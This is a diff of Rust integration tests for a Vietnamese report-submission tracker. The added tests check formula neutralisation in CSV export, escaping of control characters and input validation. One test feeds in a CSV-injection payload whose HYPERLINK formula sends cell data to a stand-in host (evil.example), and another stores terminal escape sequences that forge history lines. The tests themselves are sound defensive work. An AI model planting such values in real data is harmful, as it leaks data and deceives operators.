@@ -9,13 +9,14 @@ use hanbao::calendar::WorkCalendar;
 use hanbao::config::model::Config;
 use hanbao::status::StateName;
 use hanbao::store::{
-    self, AnyStore, Key, NewExtension, NewSubmission, NewWaiver, Revocation, Source, Store, Subject,
+    self, Key, NewExtension, NewSubmission, NewWaiver, Revocation, Source, Store, Subject,
 };
 use hanbao::tracking::{self, Selection};
 use jiff::Timestamp;
 use jiff::civil::{Date, date};
 
 use crate::support::pg;
+use hanbao::store::Records;
 
 fn sample_path() -> PathBuf {
     Path::new(env!("CARGO_MANIFEST_DIR")).join("config/quang-ngai-4040.toml")
@@ -52,7 +53,7 @@ fn sub(unit: &str, on: Date, reference: &str, correction: bool) -> NewSubmission
 /// The season of 2026-H1 of the sample's six-monthly report: due Thu
 /// 18/6/2026 (override), first reminder 5 working days before = Thu 11/6
 /// (17, 16, 15, 12, 11 counted back on a wall calendar), window opens 1/1.
-async fn season<S: Store>(s: &S) {
+async fn season(s: &Store) {
     s.record_submission(
         sub("ubnd-binhson", date(2026, 6, 15), "12/BC", false),
         now(),
@@ -177,7 +178,7 @@ fn cases() -> Vec<Case> {
     ]
 }
 
-async fn season_story(store: AnyStore) {
+async fn season_story(store: Store) {
     let cfg = sample();
     let cal = WorkCalendar::new(&cfg.calendar);
     season(&store).await;
@@ -234,7 +235,7 @@ async fn season_postgres() {
 
 /// `facts` of several pairs in one read agrees with `current` on both
 /// backends, including revocations and pairs with nothing recorded.
-async fn facts_story(store: AnyStore) {
+async fn facts_story(store: Store) {
     season(&store).await;
     store
         .record_submission(
@@ -622,7 +623,7 @@ fn status_json_matrix_and_export() {
         "{tunghia}"
     );
 
-    let m = e.ok(&[&["status"][..], &filters].concat());
+    let m = e.ok(&[&["status", "--matrix"][..], &filters].concat());
     assert!(!m.contains('\x1b'), "no colours when not a terminal");
     assert!(
         m.starts_with("Tình hình nộp báo cáo ngày 30/06/2026"),
@@ -931,4 +932,403 @@ fn a_bad_configuration_exits_78() {
     let e = Env { dir, config: cfg };
     e.fails(&["status"], 78);
     e.fails(&["submit", "a", "b", "c"], 78);
+}
+
+const AT_30_06: [&str; 6] = ["--obligation", OB, "--period", H1, "--at", "2026-06-30"];
+
+/// Every cell of a CSV hanbao wrote, parsed by the csv crate.
+fn cells(bytes: &[u8]) -> Vec<Vec<String>> {
+    let text = std::str::from_utf8(bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap()).unwrap();
+    ::csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(text.as_bytes())
+        .records()
+        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
+        .collect()
+}
+
+/// A document number that is a spreadsheet formula is exported as text
+/// (OWASP: a leading single quote), by `export`, `status --csv` alike;
+/// the numbers and dates hanbao writes itself stay as they are.
+#[test]
+fn exports_never_hand_a_spreadsheet_a_formula() {
+    let e = Env::sample();
+    let evil = r#"=HYPERLINK("http://evil.example/?leak="&A2,"Xem")"#;
+    for (unit, on, reference) in [
+        ("ubnd-binhson", "2026-06-15", evil),
+        ("ubnd-sontinh", "2026-06-25", "-2+3"),
+        ("ubnd-moduc", "2026-06-10", "@SUM(A1:A9)"),
+        ("ubnd-nghiahanh", "2026-06-11", "+84 255 3822"),
+    ] {
+        let reference = format!("--ref={reference}");
+        e.ok(&["submit", OB, H1, unit, "--on", on, &reference]);
+    }
+    let csv = e.run(&[&["export"][..], &AT_30_06].concat()).stdout;
+    assert_eq!(
+        e.run(&[&["status", "--csv"][..], &AT_30_06].concat())
+            .stdout,
+        csv
+    );
+    let rows = cells(&csv);
+    for row in &rows {
+        for cell in row {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a formula reaches the spreadsheet: {cell:?} in {row:?}"
+            );
+        }
+    }
+    let by_unit = |u: &str| rows.iter().find(|r| r[3] == u).unwrap().clone();
+    assert_eq!(by_unit("ubnd-binhson")[11], format!("'{evil}"));
+    assert_eq!(by_unit("ubnd-moduc")[11], "'@SUM(A1:A9)");
+    assert_eq!(by_unit("ubnd-nghiahanh")[11], "'+84 255 3822");
+    let sontinh = by_unit("ubnd-sontinh");
+    assert_eq!(sontinh[11], "'-2+3");
+    assert_eq!(
+        sontinh[7..11],
+        ["18/06/2026", "25/06/2026", "7", "5"],
+        "hanbao's own dates and numbers stay as they are"
+    );
+}
+
+/// Text stored before control characters were refused (or written by
+/// another program) reaches the terminal escaped: an ESC sequence cannot
+/// clear the screen, a carriage return cannot overwrite the real actor,
+/// a line break cannot forge a history line.
+#[test]
+fn stored_control_characters_reach_the_terminal_escaped() {
+    let e = Env::sample();
+    e.ok(&["submit", OB, H1, "ubnd-binhson", "--on", "2026-06-15"]);
+    let url = format!("sqlite://{}", e.db().display());
+    tokio::runtime::Runtime::new().unwrap().block_on(async {
+        let s = store::open(&url).await.unwrap();
+        s.record_submission(
+            NewSubmission {
+                key: key("ubnd-moduc"),
+                received_on: date(2026, 6, 10),
+                received_at: None,
+                reference: Some("15/BC\u{1b}[8m".into()),
+                note: Some("bản giấy\r\u{1b}[2K\n01/07/2026 08:00  giả mạo\u{0}".into()),
+                actor: "kẻ gian\rchi-lan".into(),
+                source: Source::Api,
+                correction: false,
+            },
+            now(),
+        )
+        .await
+        .unwrap();
+        s.close().await;
+    });
+    let hist = e.ok(&["history", "--unit", "ubnd-moduc"]);
+    let conflict = e.fails(
+        &[
+            "submit",
+            OB,
+            H1,
+            "ubnd-moduc",
+            "--on",
+            "2026-06-11",
+            "--ref",
+            "1/BC",
+        ],
+        1,
+    );
+    for out in [&hist, &conflict] {
+        for raw in ['\u{1b}', '\r', '\u{0}'] {
+            assert!(!out.contains(raw), "raw {raw:?} on the terminal: {out:?}");
+        }
+    }
+    assert_eq!(hist.lines().count(), 2, "one record, one line: {hist}");
+    assert!(
+        hist.contains("số 15/BC\\u{1b}[8m")
+            && hist.contains("\"bản giấy\\r\\u{1b}[2K\\n01/07/2026 08:00  giả mạo\\0\"")
+            && hist.contains("kẻ gian\\rchi-lan (api)"),
+        "{hist}"
+    );
+    assert!(
+        conflict.contains("số văn bản 15/BC\\u{1b}[8m")
+            && conflict.contains("do kẻ gian\\rchi-lan"),
+        "{conflict}"
+    );
+}
+
+/// What people type is checked alike on the command line and in imports:
+/// no control characters, no receipt before the period started, no
+/// extension beyond a year and a day after the due day.
+#[test]
+fn control_characters_backdating_and_far_extensions_are_refused() {
+    let e = Env::sample();
+    let cases: &[(&[&str], &str)] = &[
+        (
+            &[
+                "submit",
+                OB,
+                H1,
+                "ubnd-binhson",
+                "--on",
+                "2026-06-15",
+                "--note",
+                "a\rb",
+            ],
+            "ghi chú có ký tự điều khiển \\r",
+        ),
+        (
+            &[
+                "submit",
+                OB,
+                H1,
+                "ubnd-binhson",
+                "--on",
+                "2026-06-15",
+                "--ref",
+                "1\u{1b}[2J",
+            ],
+            "số văn bản có ký tự điều khiển \\u{1b}",
+        ),
+        (
+            &[
+                "submit",
+                OB,
+                H1,
+                "ubnd-binhson",
+                "--on",
+                "2026-06-15",
+                "--by",
+                "x\ry",
+            ],
+            "người ghi có ký tự điều khiển \\r",
+        ),
+        (
+            &["submit", OB, H1, "ubnd-binhson", "--on", "2025-12-31"],
+            "ngày nhận 31/12/2025 trước khi kỳ báo cáo bắt đầu (01/01/2026)",
+        ),
+        (
+            &["submit", OB, H1, "ubnd-binhson", "--on", "1900-01-01"],
+            "trước khi kỳ báo cáo bắt đầu",
+        ),
+        (
+            &[
+                "extend",
+                OB,
+                H1,
+                "ubnd-moduc",
+                "--until",
+                "2099-01-01",
+                "--reason",
+                "bão",
+            ],
+            "ngày gia hạn 01/01/2099 quá xa: gia hạn được tối đa đến ",
+        ),
+        (
+            &["waive", OB, H1, "ubnd-moduc", "--reason", "sáp\u{7f}nhập"],
+            "lý do có ký tự điều khiển \\u{7f}",
+        ),
+        (
+            &["revoke", OB, H1, "ubnd-moduc", "--reason", "a\u{9b}b"],
+            "lý do có ký tự điều khiển \\u{9b}",
+        ),
+    ];
+    for (args, want) in cases {
+        let err = e.fails(args, 1);
+        assert!(err.contains(want), "{args:?}:\n{err}\nwanted: {want}");
+        assert!(
+            !err.contains(['\r', '\u{1b}', '\u{7f}', '\u{9b}']),
+            "{err:?}"
+        );
+    }
+    let file = e.dir.path().join("nhap.csv");
+    std::fs::write(
+        &file,
+        "obligation,period,unit,received_on,reference,note,by\n\
+         nq121-6thang,2026-H1,ubnd-binhson,31/12/2025,1/BC,,\n\
+         nq121-6thang,2026-H1,ubnd-moduc,15/06/2026,3/BC,,\"chị\u{1b}[2J Lan\"\n\
+         nq121-6thang,2026-H1,ubnd-sontinh,15/06/2026,2/BC,\"dòng 1\rdòng 2\",\n",
+    )
+    .unwrap();
+    let err = e.fails(&["import", file.to_str().unwrap()], 1);
+    for want in [
+        "3 lỗi",
+        "dòng 2, cột received_on: ngày nhận 31/12/2025 trước khi kỳ báo cáo bắt đầu (01/01/2026)",
+        "dòng 3, cột by: người ghi có ký tự điều khiển \\u{1b}",
+        "dòng 4, cột note: ghi chú có ký tự điều khiển \\r",
+    ] {
+        assert!(err.contains(want), "{err}\nwanted: {want}");
+    }
+    // The bounds themselves pass: the first day of the period, and a year
+    // and a day after today (later than the due day, 18/06/2026).
+    e.ok(&["submit", OB, H1, "ubnd-binhson", "--on", "2026-01-01"]);
+    let tz = jiff::tz::TimeZone::get("Asia/Ho_Chi_Minh").unwrap();
+    let today = Timestamp::now()
+        .to_zoned_datetime(tz)
+        .date()
+        .max(date(2026, 6, 18));
+    let latest = today.checked_add(jiff::Span::new().days(366)).unwrap();
+    let after = latest.tomorrow().unwrap().to_string();
+    let err = e.fails(
+        &[
+            "extend",
+            OB,
+            H1,
+            "ubnd-moduc",
+            "--until",
+            &after,
+            "--reason",
+            "bão",
+        ],
+        1,
+    );
+    assert!(
+        err.contains(&format!(
+            "gia hạn được tối đa đến {}",
+            tracking::dmy(latest)
+        )),
+        "{err}"
+    );
+    let latest_iso = latest.to_string();
+    e.ok(&[
+        "extend",
+        OB,
+        H1,
+        "ubnd-moduc",
+        "--until",
+        &latest_iso,
+        "--reason",
+        "bão",
+    ]);
+    assert_eq!(e.ok(&["history"]).lines().count(), 3);
+}
+
+/// An import is bounded: the file's size, its number of rows, the length
+/// of the report of a bad file (its first problems, then how many more,
+/// each cut short); and its `by` column can only name someone as written
+/// on their behalf by the person who ran it.
+#[test]
+fn imports_are_bounded_and_mark_who_wrote_for_whom() {
+    let e = Env::sample();
+    let file = e.dir.path().join("nhap.csv");
+    let header = "obligation,period,unit,received_on\n";
+
+    // Over 16 MiB: refused before anything is read into rows.
+    let f = std::fs::File::create(&file).unwrap();
+    f.set_len(17 * 1024 * 1024).unwrap();
+    let err = e.fails(&["import", file.to_str().unwrap()], 1);
+    assert!(err.contains("lớn hơn 16 MiB"), "{err}");
+    assert!(err.len() < 1000, "{} bytes", err.len());
+
+    // Over 100,000 rows.
+    let row = "nq121-6thang,2026-H1,ubnd-binhson,15/06/2026\n";
+    std::fs::write(&file, format!("{header}{}", row.repeat(100_001))).unwrap();
+    let err = e.fails(&["import", file.to_str().unwrap()], 1);
+    assert!(err.contains("tệp có hơn 100000 dòng dữ liệu"), "{err}");
+    assert!(err.len() < 1000, "{} bytes", err.len());
+
+    // 2,000 bad rows, one with a 100 kB unit id: 50 problems listed, each
+    // short, and the count of the others.
+    let mut text = String::from(header);
+    text.push_str(&format!(
+        "nq121-6thang,2026-H1,{},15/06/2026\n",
+        "x".repeat(100_000)
+    ));
+    for i in 1..2000 {
+        text.push_str(&format!("nq121-6thang,2026-H1,ubnd-{i},15/06/2026\n"));
+    }
+    std::fs::write(&file, text).unwrap();
+    let err = e.fails(&["import", file.to_str().unwrap()], 1);
+    assert!(
+        err.contains("2000 lỗi, không ghi dòng nào"),
+        "{}",
+        &err[..500]
+    );
+    assert!(
+        err.contains("… và 1950 lỗi khác không liệt kê"),
+        "{}",
+        &err[err.len() - 500..]
+    );
+    assert_eq!(err.lines().filter(|l| l.starts_with("  dòng ")).count(), 50);
+    assert!(err.len() < 50_000, "{} bytes", err.len());
+
+    // `by`: the runner (USER=chi-lan) is always the recorded actor; a `by`
+    // naming someone else (here an API token's actor) is marked.
+    std::fs::write(
+        &file,
+        "obligation,period,unit,received_on,by\n\
+         nq121-6thang,2026-H1,ubnd-binhson,15/06/2026,token:1:Điều phối\n\
+         nq121-6thang,2026-H1,ubnd-sontinh,15/06/2026,chi-lan\n\
+         nq121-6thang,2026-H1,ubnd-moduc,15/06/2026,\n",
+    )
+    .unwrap();
+    e.ok(&["import", file.to_str().unwrap()]);
+    let hist = e.ok(&["history"]);
+    let actor = |unit: &str| {
+        let line = hist.lines().find(|l| l.contains(unit)).unwrap();
+        line.rsplit("  ").next().unwrap().to_string()
+    };
+    assert_eq!(
+        actor("ubnd-binhson"),
+        "chi-lan (ghi thay token:1:Điều phối) (import)"
+    );
+    assert_eq!(actor("ubnd-sontinh"), "chi-lan (import)");
+    assert_eq!(actor("ubnd-moduc"), "chi-lan (import)");
+}
+
+/// `hanbao status` by default: a summary per obligation and period that
+/// fits 100 columns whatever the number of units, by name, with the
+/// counts; `--matrix` shows every unit.
+#[test]
+fn status_is_a_summary_within_100_columns_and_the_matrix_on_request() {
+    let e = Env::sample();
+    e.ok(&["submit", OB, H1, "ubnd-binhson", "--on", "15/06/2026"]);
+    e.ok(&["submit", OB, H1, "ubnd-sontinh", "--on", "25/06/2026"]);
+    e.ok(&["waive", OB, H1, "ubnd-lyson", "--reason", "sáp nhập"]);
+    e.ok(&[
+        "extend",
+        OB,
+        H1,
+        "ubnd-tunghia",
+        "--until",
+        "03/07/2026",
+        "--reason",
+        "lũ",
+    ]);
+    let owed = sample().obligation(OB).unwrap().reporters.len();
+    let out = e.ok(&["status", "--at", "2026-06-30"]);
+    for line in out.lines() {
+        assert!(
+            line.chars().count() <= 100,
+            "{} columns: {line}",
+            line.chars().count()
+        );
+    }
+    let title: String = sample()
+        .obligation(OB)
+        .unwrap()
+        .title
+        .chars()
+        .take(40)
+        .collect();
+    assert!(out.contains(&title), "{out}");
+    assert!(out.contains(&format!("[{OB}]")), "{out}");
+    let period = out
+        .lines()
+        .skip_while(|l| !l.contains(&format!("[{OB}]")))
+        .find(|l| l.starts_with("  Kỳ 2026-H1, hạn 18/06/2026:"))
+        .unwrap_or_else(|| panic!("{out}"));
+    for want in [
+        format!("đã nhận 2/{} (đúng hạn 1, muộn 1)", owed - 1),
+        format!("quá hạn {}", owed - 4),
+        "gia hạn 1".into(),
+        "miễn nộp 1".into(),
+    ] {
+        assert!(period.contains(&want), "{period}\nwanted: {want}");
+    }
+    assert!(
+        out.contains("  Quá hạn: Văn phòng UBND tỉnh (12 ngày),"),
+        "{out}"
+    );
+    assert!(out.contains("(12 ngày)"), "{out}");
+    assert!(!out.contains("ubnd-moduc"), "names, not ids: {out}");
+
+    let m = e.ok(&["status", "--matrix", "--at", "2026-06-30"]);
+    let row = m.lines().find(|l| l.starts_with("ubnd-moduc")).unwrap();
+    assert!(row.contains("QUÁ HẠN 12 ngày (8 LV)"), "{row}");
 }
